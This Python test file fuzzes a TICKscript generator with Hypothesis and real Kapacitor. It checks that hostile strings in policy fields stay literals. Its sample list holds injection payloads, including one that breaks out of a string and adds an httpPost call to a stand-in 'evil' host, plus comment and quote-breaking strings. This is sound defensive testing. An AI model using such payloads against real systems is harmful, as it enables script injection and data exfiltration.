"""No string from a policy can change the meaning of a generated script (real Kapacitor judges).

Hypothesis writes hostile text into the one free-text policy value that reaches a
TICKscript (``spec.classify.rules``, a path). Every generated script must be accepted by
the real Kapacitor, and Kapacitor's own formatting of it must equal its formatting of the
same policy with a harmless placeholder, the placeholder's literal swapped for the
hostile one: the string changed a literal and nothing else. Values that cannot be written
safely are refused by the generator before Kapacitor sees them.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

import httpx
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from errloop.deploy.generate import generate
from errloop.deploy.generate.tick import UnsafeValue, tick_str
from errloop.deploy.kapacitor import KapacitorClient
from errloop.deploy.stack.run import StackConfig
from errloop.rules.located import SpecError
from errloop.rules.policy import bundled_policy_paths, load_policy

pytestmark = pytest.mark.stack
PLACEHOLDER = "PLACEHOLDER"
TEMPLATE = bundled_policy_paths()[0].read_text()

hostile = st.one_of(
    st.text(min_size=1, max_size=60),
    st.sampled_from(
        [
            "x') |log() //",
            "'''",
            "\\",
            "a\\'b",
            "x')\n|httpPost('http://evil/')",
            '" OR TRUE',
            "{{ .Tags }}",
            "lambda: TRUE",
            "'; var x = 1 //",
            "\u202e\u0000",
        ]
    ),
)


def script_for(rules: str) -> str:
    text = TEMPLATE.replace("rules: default", f"rules: {_yaml_quote(rules)}")
    return generate([load_policy(text, "fuzz.yaml")]).tasks[0].script


def _yaml_quote(s: str) -> str:
    import json

    return json.dumps(s)  # a JSON string is a YAML double-quoted scalar


def formatted(client: KapacitorClient, cfg: StackConfig, task_id: str, script: str) -> str:
    client.define_task(task_id, script, status="disabled")
    resp = httpx.get(f"{cfg.kapacitor_url}/kapacitor/v1/tasks/{task_id}", params={"script-format": "formatted"})
    resp.raise_for_status()
    body: dict[str, str] = resp.json()
    return body["script"]


@pytest.fixture(scope="module")
def client(tick_stack: StackConfig) -> Iterator[KapacitorClient]:
    with KapacitorClient(tick_stack.kapacitor_url) as c:
        yield c
        c.delete_task("fuzz-baseline")
        c.delete_task("fuzz-hostile")


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(rules=hostile)
def test_hostile_strings_stay_literals(client: KapacitorClient, tick_stack: StackConfig, rules: str) -> None:
    baseline = formatted(client, tick_stack, "fuzz-baseline", script_for(PLACEHOLDER))
    try:
        script = script_for(rules)
    except (UnsafeValue, SpecError):  # refused, explicitly, before Kapacitor sees it: allowed
        return
    got = formatted(client, tick_stack, "fuzz-hostile", script)
    assert got == baseline.replace(f"'{PLACEHOLDER}'", tick_str(rules)), (rules, script)


# Decision trees bring three more free-text values into a script: a string a condition tests
# (service), and strings of an action's config (fallback's service, notify's message).
DECISION_POLICY = """apiVersion: errloop/v1
kind: Policy
metadata: {name: fuzz-tree}
spec:
  service: checkout
  alert: {threshold: 1, window: 1m}
  decision:
    - type: condition
      field: service
      op: "=="
      value: VALUE
      then:
        - {type: action, name: fallback, config: {service: VALUE, timeout_ms: 100}}
      else:
        - {type: action, name: notify, config: {message: VALUE}}
"""
_LITERALS = re.compile(r"'''[\s\S]*?'''|'(?:\\'|[^'])*'|//[^\n]*")


def decide_script(value: str) -> str:
    text = DECISION_POLICY.replace("VALUE", _yaml_quote(value))
    bundle = generate([load_policy(text, "fuzz-decide.yaml")])
    return next(t.script for t in bundle.tasks if t.id == "errloop-fuzz-tree-decide")


def skeleton(script: str) -> str:
    """The script with every string literal and comment blanked: what a string may change."""
    return _LITERALS.sub("<lit>", script)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(value=hostile)
def test_hostile_strings_in_a_decision_tree_stay_literals(
    client: KapacitorClient, tick_stack: StackConfig, value: str
) -> None:
    baseline = formatted(client, tick_stack, "fuzz-baseline", decide_script(PLACEHOLDER))
    try:
        script = decide_script(value)
    except (UnsafeValue, SpecError):
        return
    got = formatted(client, tick_stack, "fuzz-hostile", script)  # accepted by the real Kapacitor
    assert skeleton(got) == skeleton(baseline), (value, script)
    assert f"'service' == {tick_str(value)}".replace("'service'", '"service"') in got  # the lambda's literal
